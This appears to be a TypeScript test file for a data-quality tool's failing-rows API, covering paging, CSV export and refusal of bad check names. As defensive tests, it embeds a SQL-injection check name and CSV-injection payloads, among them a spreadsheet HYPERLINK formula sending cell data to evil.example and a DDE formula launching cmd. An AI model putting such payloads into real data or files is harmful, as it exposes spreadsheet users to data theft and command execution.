// A failing check's rows through the API, over the readiness fixture (crm_customers.csv has
// C5 twice, C4 without e-mail, C3 with "carl(at)example.com" and country XX): paged, as CSV,
// refused for table-level checks and unknown names, never running anything a caller sends.
import { cpSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { applyDefinitions } from '../../src/store/definition-repository.js';
import { workspaceDefinitions } from '../../src/workspace/definitions.js';
import { loadWorkspace } from '../../src/workspace/load-workspace.js';
import { describeEachStore, T0 } from '../support/server-app.js';

const FIXTURE = path.resolve(import.meta.dirname, '../fixtures/readiness-ws');
const url = (check: string, tail = '') => `/api/datasets/crm_customers/checks/${encodeURIComponent(check)}/failing-rows${tail}`;

describeEachStore('failing rows API', (open) => {
  it('pages the failing rows of a check, downloads them as CSV, and refuses what has no rows', async ({ skip }) => {
    const t = await open(skip, { seed: false, workspaceRoot: FIXTURE });
    const { workspace } = await loadWorkspace(FIXTURE);
    await applyDefinitions(t.store, workspaceDefinitions(workspace!), 'seed', T0);

    const first = await t.as('viewer', { method: 'GET', url: url('unique(customer_id)', '?limit=1') });
    expect(first.statusCode).toBe(200);
    expect(first.json()).toEqual({ dataset: 'crm_customers', check: 'unique(customer_id)', columns: ['customer_id'], rows: [['C5']], offset: 0, limit: 1, more: true });
    const second = (await t.as('viewer', { method: 'GET', url: url('unique(customer_id)', '?limit=1&offset=1') })).json();
    expect(second).toMatchObject({ rows: [['C5']], more: false });
    const email = (await t.as('viewer', { method: 'GET', url: url('regex(email)') })).json();
    expect(email.rows).toEqual([['C3', 'carl(at)example.com']]);

    const csv = await t.as('viewer', { method: 'GET', url: url('accepted_values(country)', '.csv') });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toBe('attachment; filename="crm_customers--accepted_values_country_.csv"');
    expect(csv.body).toBe('"customer_id","country"\r\n"C3","XX"\r\n');

    const table = await t.as('viewer', { method: 'GET', url: url('row_count') });
    expect(table.statusCode).toBe(400);
    expect(table.json().error.code).toBe('no_failing_rows');
    const typo = await t.as('viewer', { method: 'GET', url: url('unique(customer)') });
    expect(typo.statusCode).toBe(404);
    expect(typo.json().error.message).toContain('did you mean "unique(customer_id)"');
    expect((await t.as('viewer', { method: 'GET', url: '/api/datasets/nope/checks/row_count/failing-rows' })).statusCode).toBe(404);
    // A check name is looked up among the declared ones, never put into SQL.
    const injected = await t.as('viewer', { method: 'GET', url: url("x'); drop table readiness_runs; --") });
    expect(injected.statusCode).toBe(404);
    expect((await t.as('viewer', { method: 'GET', url: url('unique(customer_id)', '?limit=1000') })).statusCode).toBe(400);
    expect(await t.store.db.selectFrom('readiness_runs').select('id').execute()).toEqual([]);
  });

  it('recomputes the cached dataset list when a definition or a run lands, and only then', async ({ skip }) => {
    const t = await open(skip, { seed: false, workspaceRoot: FIXTURE });
    const { workspace } = await loadWorkspace(FIXTURE);
    await applyDefinitions(t.store, workspaceDefinitions(workspace!), 'seed', T0);
    const list = async () => (await t.as('viewer', { method: 'GET', url: '/api/datasets' })).json() as { items: { id: string; title: string | null; latest: unknown }[] };
    expect((await list()).items.map((d) => d.id)).toEqual(['crm_customers', 'erp_orders']);
    const first = await t.as('viewer', { method: 'GET', url: '/api/datasets' });
    expect((await t.as('viewer', { method: 'GET', url: '/api/datasets' })).body).toBe(first.body);
    // A dataset's title changes in the workspace: the next answer says so.
    const renamed = { ...workspace!, datasets: workspace!.datasets.map((d) => (d.id === 'erp_orders' ? { ...d, title: 'Orders from the ERP' } : d)) };
    await applyDefinitions(t.store, workspaceDefinitions(renamed), 'seed', T0);
    expect((await list()).items.find((d) => d.id === 'erp_orders')!.title).toBe('Orders from the ERP');
    // A run lands: its scores show.
    expect((await t.as('approver', { method: 'POST', url: '/api/readiness/runs', payload: { datasets: ['erp_orders'] } })).statusCode).toBe(201);
    expect((await list()).items.find((d) => d.id === 'erp_orders')!.latest).not.toBeNull();
  });

  it('writes a formula found in the data as text in the CSV (OWASP CSV injection), never as a formula', async ({ skip }) => {
    // The company's data is untrusted too: a customer record whose fields are spreadsheet formulas.
    const root = mkdtempSync(path.join(tmpdir(), 'traction-csv-injection-'));
    cpSync(FIXTURE, root, { recursive: true });
    const planted = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1', '\r=1'];
    const rows = planted.map((p, i) => `F${i},"${p.replace(/"/g, '""')}",DE,smb,2026-01-10 08:00:00`);
    writeFileSync(path.join(root, 'data/crm_customers.csv'), `customer_id,email,country,segment,updated_at\nC1,anna@example.com,DE,smb,2026-01-10 08:00:00\n${rows.join('\n')}\n`);
    const t = await open(skip, { seed: false, workspaceRoot: root });
    const { workspace } = await loadWorkspace(root);
    await applyDefinitions(t.store, workspaceDefinitions(workspace!), 'seed', T0);
    const csv = await t.as('viewer', { method: 'GET', url: url('regex(email)', '.csv') });
    expect(csv.statusCode, csv.body).toBe(200);
    const cells = parse(csv.body) as string[][];
    expect(cells[0]).toEqual(['customer_id', 'email']);
    expect(cells.slice(1).map((r) => r[1])).toEqual(planted.map((p) => `'${p}`));
    for (const line of csv.body.split('\r\n').slice(1, -1)) expect(line).toMatch(/^"F\d","'/);
  });
});
